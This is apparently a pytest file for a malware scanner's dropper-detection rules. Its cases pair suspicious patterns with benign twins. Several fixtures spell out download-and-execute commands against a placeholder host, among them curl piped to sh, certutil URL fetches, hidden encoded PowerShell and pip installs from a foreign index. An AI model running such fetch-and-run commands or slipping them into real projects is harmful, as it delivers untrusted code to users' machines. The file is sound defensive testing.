"""Droppers: each template is told by its facts, and not by a twin that lacks what makes it one."""

from dataclasses import replace

import pytest

from pratique.analysis.chains.dropper import DROPPER
from pratique.analysis.context import Context
from pratique.analysis.facts import Capability, Language, PayloadKind, Taint
from tests.analysis.chains.making import (
    CHAIN,
    FAR,
    PASTE,
    WIDE,
    Case,
    asks,
    code,
    command,
    elsewhere,
    fetch,
    flow,
    load,
    payload,
    read,
    runs,
    start,
    starts,
    told,
    use,
    write,
)

CASES = (
    Case("download-started", [starts(Taint.NETWORK)], [fetch(), start()]),
    Case(
        "download-loaded-as-native-code",
        [flow(Capability.NATIVE, "process.dlopen", Taint.NETWORK)],
        [fetch(), use(Capability.NATIVE, "process.dlopen")],
    ),
    Case("download-run-as-code", [runs(Taint.NETWORK)], [runs(Taint.FILE)]),
    Case("host-asked-and-code-run", [load(fetch()), load(code())], [load(fetch(WIDE)), load(code())]),
    Case(
        "download-piped-to-interpreter",
        [start("curl https://far.invalid/x | sh")],
        [start("curl https://far.invalid/x | jq")],
    ),
    Case(
        "download-written-and-started", [fetch(), write("x.exe"), start()], [fetch(), write("x.txt"), start()]
    ),
    Case("download-saved-and-started", [fetch(), write(), start()], [start(), write(), fetch()]),
    Case(
        "saved-download-started",
        [
            load(start("sh")),
            command("curl https://far.invalid/x -o /tmp/x"),
            load(start("sh")),
            command("sh /tmp/x"),
        ],
        [
            load(start("sh")),
            command("curl https://far.invalid/x -o /tmp/x"),
            load(start("sh")),
            command("sh /tmp/y"),
        ],
        language=Language.SHELL,
    ),
    Case(
        "download-saved-and-loaded",
        [load(fetch()), load(write("/tmp/x")), replace(asks("/tmp/x"), at_load=True)],
        [load(fetch()), load(write("/tmp/y")), replace(asks("/tmp/x"), at_load=True)],
        language=Language.JAVASCRIPT,
    ),
    Case("fetched-from-anybodys-host-and-run", [fetch(PASTE), code()], [fetch(FAR), code()]),
    Case(
        "executable-address-fetched-and-run",
        [load(fetch("https://far.invalid/x.exe")), load(fetch()), load(start())],
        [load(fetch()), load(start())],
    ),
    Case(
        "embedded-executable-started",
        [payload(PayloadKind.EXECUTABLE), write(), elsewhere(start())],
        [payload(PayloadKind.ARCHIVE), write(), start()],
    ),
    Case(
        "embedded-archive-unpacked-and-started",
        [payload(PayloadKind.ARCHIVE), write(), start()],
        [payload(PayloadKind.ARCHIVE), write()],
    ),
    Case(
        "embedded-script-started",
        [payload(PayloadKind.SCRIPT), start()],
        [payload(PayloadKind.SCRIPT), elsewhere(start())],
    ),
    Case("decoded-data-started", [starts(Taint.DECODED)], [starts(Taint.FILE)]),
    Case(
        "long-constant-started",
        [flow(Capability.PROCESS, "os.system", Taint.LITERAL, at_load=True)],
        [flow(Capability.PROCESS, "os.system", Taint.LITERAL)],
    ),
    Case(
        "constant-saved-and-started",
        [flow(Capability.FILE_WRITE, "open.write", Taint.DECODED, Taint.LITERAL), start()],
        [flow(Capability.FILE_WRITE, "open.write", Taint.NETWORK), start()],
    ),
    Case(
        "executable-fetched-and-saved",
        [load(fetch("https://far.invalid/x.exe")), load(write())],
        [load(fetch("https://far.invalid/x.json")), load(write())],
    ),
    Case("shipped-program-started", [load(start("bin/shipped.exe --quiet"))], [load(start("git --version"))]),
    Case(
        "shipped-program-started-at-install",
        [load(start("start shipped.exe"))],
        [load(start("node-gyp rebuild"))],
        context=Context.INSTALL,
    ),
    Case(
        "shipped-program-started-out-of-sight",
        [load(use(Capability.PROCESS, "hidden-start", "__dirname/bin/shipped.exe"))],
        [load(use(Capability.PROCESS, "hidden-start", "node ./check.js")), load(start("bin/shipped.exe"))],
    ),
    Case(
        "shipped-program-started-unwatched",
        [load(use(Capability.PROCESS, "unwatched-start", "{}/bin/shipped.exe"))],
        [load(use(Capability.PROCESS, "unwatched-start", "git fetch")), load(start("bin/shipped.exe"))],
    ),
    Case("shipped-library-started", [load(start("bin/shipped.so"))], [load(start("bin/shipped.exe"))]),
    Case("encoded-command-started", [start("powershell -nop -enc AAAA")], [start("powershell -File x.ps1")]),
    Case(
        "encoded-command-started-out-of-sight",
        [start("powershell -WindowStyle Hidden -enc AAAA")],
        [start("powershell -enc AAAA")],
    ),
    Case(
        "system-tool-fetches",
        [start("certutil -urlcache -f https://far.invalid/x x")],
        [start("certutil -hashfile x")],
    ),
    Case("started-out-of-sight", [fetch(), start("nohup ./x")], [fetch(), start("./x")]),
    Case(
        "written-file-started",
        [write("~/x.py"), start("python ~/x.py")],
        [read("~/x.py"), start("python ~/x.py")],
    ),
    Case("started-out-of-sight-when-loaded", [load(start("pythonw x.pyw"))], [start("pythonw x.pyw")]),
    Case("package-installed-on-the-way", [load(start("pip install x"))], [start("pip install x")]),
    Case("package-run-on-the-way", [load(start("npx -y x"))], [load(start("npx --no-install x"))]),
    Case(
        "package-installed-from-elsewhere",
        [load(start("pip install -i https://far.invalid/simple x"))],
        [load(start("pip install git+https://github.com/acme/x"))],
    ),
    Case("foreign-interpreter-started", [load(start("bun run x.js"))], [load(start("python x.py"))]),
    Case(
        "runtime-fetched-and-started",
        [start("curl -fsSL https://bun.sh/install -o x"), start("bun run x.js")],
        [start("curl -fsSL https://far.invalid/install -o x"), start("bun run x.js")],
    ),
    Case("instructions-from-blockchain", [fetch(CHAIN), code()], [fetch(CHAIN), write()]),
)


@pytest.mark.parametrize("case", CASES, ids=str)
def test_the_facts_are_told(case: Case) -> None:
    assert 1 == len(told(case, case.facts))


@pytest.mark.parametrize("case", CASES, ids=str)
def test_the_twin_is_not(case: Case) -> None:
    assert [] == told(case, case.quiet)


def test_every_template_of_the_family_has_its_case() -> None:
    assert [template.id for template in DROPPER] == [case.template for case in CASES]
